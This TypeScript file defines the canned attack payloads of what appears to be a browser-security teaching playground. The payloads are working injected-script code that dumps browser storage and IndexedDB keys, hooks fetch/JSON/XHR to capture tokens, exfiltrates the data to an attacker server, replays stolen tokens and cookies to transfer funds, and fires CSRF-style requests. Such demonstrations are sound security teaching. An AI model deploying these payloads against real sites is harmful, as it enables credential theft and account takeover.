// The canned attacker payloads. Each is the source text of a script the attacker box injects
// into the page (as a <script> element). They only use what any injected script could use, plus
// the `attacker` helpers (logging, the attacker's server) and the page's `app` API helper.
// Token-like strings are shown redacted in the attacker's own log (attacker.peek) so the
// playground never prints a credential on screen; the attacker's server gets them whole.

export interface Payload {
  id: string;
  label: string;
  help: string;
  code: string;
}

const readStorage = `// Read everything the page's origin keeps in the browser.
const found = { localStorage: {}, sessionStorage: {}, cookie: document.cookie, windowName: window.name, indexedDB: {} };
for (const k of Object.keys(localStorage)) found.localStorage[k] = localStorage.getItem(k);
for (const k of Object.keys(sessionStorage)) found.sessionStorage[k] = sessionStorage.getItem(k);
attacker.log('document.cookie = ' + attacker.peek(document.cookie) + ' (HttpOnly cookies never appear here)');
attacker.log('window.name = ' + attacker.peek(window.name));
for (const [k, v] of Object.entries(found.localStorage)) attacker.log('localStorage[' + k + '] = ' + attacker.peek(v));
for (const [k, v] of Object.entries(found.sessionStorage)) attacker.log('sessionStorage[' + k + '] = ' + attacker.peek(v));
// IndexedDB: dump every store; try to export any CryptoKey found there.
for (const info of (await indexedDB.databases?.()) ?? []) {
  const db = await new Promise((ok, ko) => { const r = indexedDB.open(info.name); r.onsuccess = () => ok(r.result); r.onerror = () => ko(r.error); });
  const dump = {};
  for (const store of db.objectStoreNames) {
    const values = await new Promise((ok) => { const r = db.transaction(store).objectStore(store).getAll(); r.onsuccess = () => ok(r.result); r.onerror = () => ok([]); });
    dump[store] = [];
    for (const v of values) {
      const keys = v instanceof CryptoKey ? [v] : Object.values(v ?? {}).filter((x) => x instanceof CryptoKey);
      if (keys.length === 0) { dump[store].push(v); continue; }
      for (const key of keys) {
        try {
          dump[store].push(await crypto.subtle.exportKey('jwk', key));
          attacker.log('IndexedDB ' + info.name + '/' + store + ': exported a ' + key.type + ' CryptoKey!');
        } catch (e) {
          attacker.log('IndexedDB ' + info.name + '/' + store + ': found a ' + key.type + ' CryptoKey, export refused (' + e.name + ')');
          dump[store].push({ cryptoKey: key.type, extractable: key.extractable });
        }
      }
    }
  }
  found.indexedDB[info.name] = dump;
  db.close();
}
attacker.stash(found);
const verdict = await attacker.exfiltrate(found);
attacker.report(verdict);`;

const readGlobals = `// Walk every non-standard global (compared with a pristine frame) and window.name.
const frame = document.createElement('iframe');
frame.hidden = true;
document.body.append(frame);
const standard = new Set(Object.getOwnPropertyNames(frame.contentWindow));
frame.remove();
const found = { name: window.name };
const strings = (v, depth, seen = new Set()) => {
  if (typeof v === 'string') return v;
  if (!v || (typeof v !== 'object' && typeof v !== 'function') || depth > 2 || seen.has(v)) return undefined;
  seen.add(v);
  if (typeof v === 'function') return '[function]';
  const out = {};
  for (const k of Reflect.ownKeys(v)) {
    if (typeof k !== 'string') continue;
    try { out[k] = strings(v[k], depth + 1, seen); } catch { out[k] = '[getter threw]'; }
  }
  return out;
};
for (const k of Object.getOwnPropertyNames(window)) {
  if (standard.has(k) || k.startsWith('__attacker') || k === 'attacker') continue;
  try { found[k] = strings(window[k], 0); } catch { found[k] = '[getter threw]'; }
}
for (const [k, v] of Object.entries(found)) attacker.log('window.' + k + ' = ' + attacker.peek(JSON.stringify(v) ?? String(v)));
attacker.stash(found);
const verdict = await attacker.exfiltrate(found);
attacker.report(verdict);`;

const patchCapture = `// Patch the functions a page uses to send and parse credentials, then make the page work.
const captured = [];
const o = { fetch: window.fetch, set: Headers.prototype.set, append: Headers.prototype.append, parse: JSON.parse,
  stringify: JSON.stringify, json: Response.prototype.json, text: Response.prototype.text,
  xhr: XMLHttpRequest.prototype.setRequestHeader, Request: window.Request };
const keep = (where, v) => { try { captured.push(where + ': ' + (typeof v === 'string' ? v : o.stringify.call(JSON, v)).slice(0, 4000)); } catch {} };
window.fetch = function (input, init) {
  const hs = init?.headers ?? (input instanceof o.Request ? input.headers : undefined);
  keep('fetch request', { url: String(input?.url ?? input), method: init?.method ?? input?.method ?? 'GET',
    headers: hs instanceof Headers ? Object.fromEntries(hs) : hs, body: typeof init?.body === 'string' ? init.body : undefined });
  return o.fetch.apply(this, arguments);
};
Headers.prototype.set = function (k, v) { keep('Headers.set ' + k, v); return o.set.call(this, k, v); };
Headers.prototype.append = function (k, v) { keep('Headers.append ' + k, v); return o.append.call(this, k, v); };
JSON.parse = function (t, r) { keep('JSON.parse', t); return o.parse.call(JSON, t, r); };
JSON.stringify = function (...a) { const s = o.stringify.apply(JSON, a); if (typeof s === 'string') captured.push('JSON.stringify: ' + s.slice(0, 4000)); return s; };
Response.prototype.json = async function () { const v = await o.json.call(this); keep('Response.json', v); return v; };
Response.prototype.text = async function () { const v = await o.text.call(this); keep('Response.text', v); return v; };
XMLHttpRequest.prototype.setRequestHeader = function (k, v) { keep('XHR header ' + k, v); return o.xhr.call(this, k, v); };
attacker.log('patched fetch, Headers, JSON, Response and XHR; now letting the page work…');
// Wait until the page's status line says it is done (at most 10 s).
const settle = async () => {
  await attacker.wait(50);
  for (let i = 0; i < 200 && document.getElementById('status')?.dataset.state === 'busy'; i++) await attacker.wait(50);
};
document.getElementById('btn-request').click();
await settle();
document.getElementById('btn-login').click();
await settle();
document.getElementById('btn-request').click();
await settle();
Object.assign(window, { fetch: o.fetch });
Object.assign(Headers.prototype, { set: o.set, append: o.append });
Object.assign(JSON, { parse: o.parse, stringify: o.stringify });
Object.assign(Response.prototype, { json: o.json, text: o.text });
XMLHttpRequest.prototype.setRequestHeader = o.xhr;
const interesting = captured.filter((c) => /authorization|token|ptk_|signature/i.test(c));
attacker.log('captured ' + captured.length + ' values; ' + interesting.length + ' look like credentials:');
for (const c of interesting.slice(0, 8)) attacker.log('  ' + attacker.peek(c, 60));
attacker.stash(captured);
const verdict = await attacker.exfiltrate(captured);
attacker.report(verdict);`;

const exfiltrate = `// Send everything found so far, plus storage and the DOM, to the attacker's server, which
// then tries each credential it recognises from outside the victim's browser.
const everything = { stash: attacker.stashed(), localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage },
  cookie: document.cookie, windowName: window.name, html: document.documentElement.outerHTML.slice(0, 20000) };
const verdict = await attacker.exfiltrate(everything);
attacker.report(verdict);`;

const useCredential = `// Use the session: with any stolen token, with ambient credentials (cookies), and through the
// page's own API helper. Each request asks for a transfer to "mallory".
const body = JSON.stringify({ to: 'mallory', amount: 1000 });
const text = JSON.stringify(attacker.stashed()) + JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + String(window.sessionToken ?? '');
const tokens = [...new Set(text.match(/ptk_[A-Za-z0-9_-]{43}/g) ?? [])];
attacker.log('stolen tokens available: ' + tokens.length);
for (const t of tokens) {
  const r = await fetch(attacker.url('transfer', 'stolen-token'), { method: 'POST', headers: { authorization: 'Bearer ' + t, 'content-type': 'application/json' }, body });
  attacker.log('with a stolen token → HTTP ' + r.status);
}
const ambient = await fetch(attacker.url('transfer', 'ambient'), { method: 'POST', headers: { 'content-type': 'application/json' }, body, credentials: 'include' });
attacker.log('plain fetch, ambient credentials → HTTP ' + ambient.status);
if (window.app?.request) {
  try {
    const r = await window.app.request(attacker.url('transfer', 'app-client'), { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    attacker.log("through the page's own API helper → HTTP " + r.status);
  } catch (e) {
    attacker.log("through the page's own API helper → failed: " + e.message);
  }
}
attacker.report(await attacker.verdict());`;

const csrf = `// Requests made by markup: no page code attaches anything. Whatever arrives authenticated was
// sent automatically by the browser — exactly what a CSRF attack relies on. Same-site first,
// then from another site (where SameSite=Lax keeps cookies off POSTs).
const img = new Image();
const loaded = new Promise((r) => { img.onload = img.onerror = r; });
img.src = attacker.url('me', 'img');
await loaded;
attacker.log('<img src=' + attacker.api + 'me> sent');
const frame = document.createElement('iframe');
frame.name = 'csrf-sink-' + attacker.probe;
frame.hidden = true;
document.body.append(frame);
const form = document.createElement('form');
form.method = 'POST';
form.action = attacker.url('transfer', 'form');
form.target = frame.name;
form.hidden = true;
form.innerHTML = '<input name="to" value="mallory"><input name="amount" value="1000">';
document.body.append(form);
const posted = new Promise((r) => { frame.onload = r; });
form.submit();
await Promise.race([posted, attacker.wait(4000)]);
attacker.log('<form method=POST action=' + attacker.api + 'transfer> submitted');
form.remove();
frame.remove();
// The same form post from another site: this server under its other loopback name.
const other = { '127.0.0.1': 'localhost', localhost: '127.0.0.1' }[location.hostname];
if (other) {
  const target = location.origin + attacker.url('transfer', 'cross-site');
  const evil = location.protocol + '//' + other + ':' + location.port + '/evil/csrf?action=' + encodeURIComponent(target);
  const cross = document.createElement('iframe');
  cross.hidden = true;
  let loads = 0;
  const done = new Promise((r) => { cross.onload = () => { if (++loads >= 2) r(); }; });
  cross.src = evil;
  document.body.append(cross);
  await Promise.race([done, attacker.wait(6000)]);
  cross.remove();
  attacker.log('a page on http://' + other + ':' + location.port + ' (another site) posted the same form');
}
attacker.report(await attacker.verdict());`;

export const payloads: readonly Payload[] = [
  {
    id: 'read-storage',
    label: 'Read storage (localStorage, sessionStorage, cookies, window.name, IndexedDB)',
    help: 'Reads every store a script can reach and sends it to the attacker.',
    code: readStorage,
  },
  {
    id: 'read-globals',
    label: 'Read globals and window.name',
    help: 'Walks every non-standard global variable of the page.',
    code: readGlobals,
  },
  {
    id: 'patch-capture',
    label: 'Patch fetch / Headers / JSON to capture tokens',
    help: 'Replaces fetch, Headers, JSON and Response methods, then clicks the page’s own buttons and keeps what flows through.',
    code: patchCapture,
  },
  {
    id: 'exfiltrate',
    label: 'Exfiltrate everything to the attacker’s server',
    help: 'Sends storage, the DOM and anything stolen so far; the attacker’s server replays what it recognises.',
    code: exfiltrate,
  },
  {
    id: 'use-credential',
    label: 'Use the credential to call the API',
    help: 'Calls the API with stolen tokens, with ambient cookies, and through the page’s own API helper.',
    code: useCredential,
  },
  {
    id: 'csrf',
    label: 'CSRF-style auto-sent request (<img>, form post)',
    help: 'Requests made by markup, with no page code involved: does the browser attach the credential on its own?',
    code: csrf,
  },
];
